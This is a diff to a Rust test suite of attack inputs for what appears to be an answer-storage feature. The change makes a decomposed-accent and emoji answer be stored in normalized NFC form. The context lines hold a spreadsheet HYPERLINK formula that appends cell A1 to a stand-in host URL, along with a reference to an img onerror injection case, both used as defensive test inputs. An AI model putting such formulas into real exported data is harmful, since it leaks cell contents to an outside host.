@@ -92,7 +92,14 @@ fn attacks() -> Vec<Attack> {
             0,
             "=HYPERLINK(\"http://x.example?\"&A1)",
         ),
-        stored("emoji and combining accents", 0, "Cafe\u{301} 🇳🇱 overleg"),
+        // Typed decomposed, stored and shown in NFC (issue 20: one text rule).
+        answer(
+            "emoji and combining accents",
+            0,
+            "",
+            "Cafe\u{301} 🇳🇱 overleg",
+            Want::Stored("Caf\u{e9} 🇳🇱 overleg".to_owned()),
+        ),
         stored(
             "<img onerror> in a multi-line answer",
             1,
